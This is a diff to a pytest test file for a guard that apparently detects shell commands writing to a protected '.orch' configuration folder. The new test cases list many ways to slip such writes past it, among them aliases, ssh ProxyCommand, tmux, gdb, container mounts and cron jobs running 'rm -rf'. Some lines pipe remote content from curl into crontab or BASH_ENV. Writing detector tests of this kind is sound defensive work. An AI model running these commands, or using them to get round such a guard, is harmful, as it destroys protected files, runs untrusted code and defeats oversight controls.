@@ -255,15 +255,44 @@ FOLDERS = [
     ("rm -r -- .orch/", ORCH),
 ]
 
+# -- 19. other ways to run a writer or name a file ------------------------------------------------
+OTHERS = [
+    ("coproc rm .orch/a", f"{ORCH}/a"),
+    ("coproc W { rm .orch/a; }", f"{ORCH}/a"),
+    ("alias cat=rm\ncat .orch/a", f"{ORCH}/a"),
+    ("alias del='rm -rf'; del .orch", ORCH),
+    ("hash -p /bin/rm cat; cat .orch/a", f"{ORCH}/a"),
+    ("docker cp c:/x .orch/x", f"{ORCH}/x"),
+    ("ssh -o ProxyCommand='rm .orch/a' host", f"{ORCH}/a"),
+    ("split -b 1 x .orch/part", f"{ORCH}/part*"),
+    ("mknod .orch/p p", f"{ORCH}/p"),
+    ("zstd .orch/config.json", f"{ORCH}/config.json.zst"),
+    ("eslint --fix .orch/x.js", f"{ORCH}/x.js"),
+    ("yq -i '.a = 1' .orch/config.yaml", f"{ORCH}/config.yaml"),
+]
+# A folder a container may write as a whole (the container is opaque).
+MOUNTS = [
+    ('docker run --rm -v "$PWD":/w alpine rm -rf /w/.orch', "docker", REPO),
+    ("docker run -v /repo/.orch:/x img", "docker", ORCH),
+    ("podman run --mount type=bind,source=.orch,target=/x img", "podman", ORCH),
+]
+
 WRITES = _cases(
     PROJECT, FIND, MODULES, ARCHIVES, COPIES, EDITORS, TEXT, WRAPPERS, SUBSTITUTIONS, FED, PATCHES,
-    SQLITE, LINKS, XARGS, FOLDERS,
+    SQLITE, LINKS, XARGS, FOLDERS, OTHERS,
 )  # fmt: skip
 
 
 @pytest.mark.parametrize(("command", "expected"), WRITES)
 def test_bypass_names_the_written_path(command: str, expected: str) -> None:
     assert expected in written_paths(command, REPO).paths
+
+
+@pytest.mark.parametrize(("command", "writer", "folder"), MOUNTS)
+def test_a_writable_mount_is_written_as_a_whole(command: str, writer: str, folder: str) -> None:
+    result = written_paths(command, REPO)
+    assert writer in result.opaque
+    assert folder in result.paths
 
 
 # An opaque writer, and the protected path one of its mentions must be at or under.
@@ -342,6 +371,13 @@ OPAQUE = [
     ("sqlite3 x.db \"ATTACH '.orch/y.db' AS y\"", "sqlite3", f"{ORCH}/y.db"),
     ("sqlite3 -init .orch/x.sql x.db", "sqlite3", f"{ORCH}/x.sql"),
     ("sqlite3 -readonly x.db '.read .orch/x.sql'", "sqlite3", f"{ORCH}/x.sql"),
+    # 19. commands run elsewhere or later, or by a debugger
+    ("ssh localhost 'rm -rf /repo/.orch'", "ssh", ORCH),
+    ("tmux new -d 'rm -rf .orch'", "tmux", ORCH),
+    ("screen -dm sh -c 'rm .orch/a'", "screen", f"{ORCH}/a"),
+    ("echo '* * * * * rm -rf /repo/.orch' | crontab -", "crontab", ORCH),
+    ("gdb -batch -ex 'shell rm .orch/a'", "gdb", f"{ORCH}/a"),
+    ("alias x='cd .orch; rm a'\nx", "x", ORCH),
     # 17. xargs running a writer on names it reads
     ("ls .orch | xargs rm", "xargs", ORCH),
 ]
@@ -385,6 +421,8 @@ UNSEEN = [
     ("curl -s x | parallel", "parallel"),
     ("awk \"$(curl -s x)\" src/app.py", "awk"),
     ("sed -i \"$(curl -s x)\" src/app.py", "sed"),
+    ("curl -s x | crontab -", "crontab"),
+    ("BASH_ENV=<(curl -s x) bash -c true", "63"),
     ("echo -e 'rm .orch/a' | sh", "sh"),
     ("echo 'rm .or\\0143h/a' | sh", "sh"),  # dash's echo decodes `\0143`
     ('echo "$(curl -s x)" | sh', "sh"),
@@ -474,6 +512,14 @@ READS = [
     "ls .orch | grep A",
     "ls | xargs grep foo",
     "vim -R .orch/config.json",
+    "alias ll='ls -la'; ll .orch",
+    "alias ls='ls --color'\nls .orch",
+    "docker run -v /repo/.orch:/x:ro img cat /x/config.json",
+    "docker run -v data:/x img",
+    "docker cp .orch/config.json c:/tmp",
+    "crontab -l",
+    "eslint .orch/x.js",
+    "yq '.a' .orch/config.yaml",
     f"patch --dry-run -p1 <<'EOF'\n{PATCH_TEXT}EOF",
 ]
 
